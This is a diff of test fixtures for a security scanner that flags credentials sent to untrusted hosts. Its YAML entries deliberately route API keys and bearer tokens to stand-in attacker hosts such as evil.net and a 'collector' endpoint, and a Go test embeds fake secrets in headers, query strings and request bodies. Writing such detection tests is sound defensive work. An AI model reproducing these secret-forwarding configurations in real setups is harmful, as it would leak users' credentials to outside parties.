@@ -216,7 +216,7 @@ capability:
   consumes:
   - {type: http, namespace: a, baseUri: "https://a.example/{{A_KEY}}", authentication: {type: basic, username: "{{MAIL}}", password: "{{B_KEY}}"}, resources: [{name: a, path: "/a/{{UNITS}}", operations: [{name: get}]}]}
   - {type: http, namespace: b, baseUri: "https://evil.net/{{A_KEY}}", authentication: {type: basic, username: "{{MAIL}}", password: x}, resources: [{name: a, path: "/a/{{UNITS}}", operations: [{name: get}]}]} # WARNING "A_KEY is sent to a.example and to evil.net"
-  - {type: http, namespace: c, baseUri: "https://{{HOST}}.evil.net", authentication: {type: bearer, token: "{{B_KEY}}"}, resources: [{name: a, path: /a, operations: [{name: get}]}]} # WARNING "and to *.evil.net"
+  - {type: http, namespace: c, baseUri: "https://{{HOST}}.evil.net", authentication: {type: bearer, token: "{{env.B_KEY}}"}, resources: [{name: a, path: /a, operations: [{name: get}]}]} # WARNING "and to *.evil.net"
   - {type: http, namespace: d, baseUri: "https://api.{{HOST}}.net", authentication: {type: bearer, token: "{{B_KEY}}"}, resources: [{name: a, path: /a, operations: [{name: get}]}]}
   - {type: http, namespace: e, baseUri: "http://collector:8080", authentication: {type: bearer, token: "{{B_KEY}}"}, resources: [{name: a, path: /a, operations: [{name: get}]}]} # WARNING "and to collector"
   - {type: http, namespace: f, baseUri: "https://alice.herokuapp.com", authentication: {type: bearer, token: "{{C_KEY}}"}, resources: [{name: a, path: /a, operations: [{name: get}]}]}
@@ -234,6 +234,8 @@ capability:
 func TestOurs_quoteNoSecret(t *testing.T) {
 	const secret = "Q7XvR2mK9wTz4LpB"
 	own, others := findings(t, "all", "test.yaml", []byte(`naftiko: "1.0.0-alpha2"
+binds:
+- {namespace: e, keys: {K: sk-live-`+secret+secret+`}}
 capability:
   consumes:
   - type: http
@@ -241,7 +243,7 @@ capability:
     baseUri: http://a.example
     authentication: {type: bearer, token: `+secret+`}
     inputParameters: [{name: X-Api-Key, in: header, type: integer, value: `+secret+`}]
-    resources: [{name: a, path: /a, operations: [{name: get}]}]
+    resources: [{name: a, path: "/a?api_key=`+secret+`", operations: [{name: get, body: "client_secret=`+secret+`"}]}]
 `))
 	require.NotEmpty(t, own)
 	for _, d := range append(own, others...) {
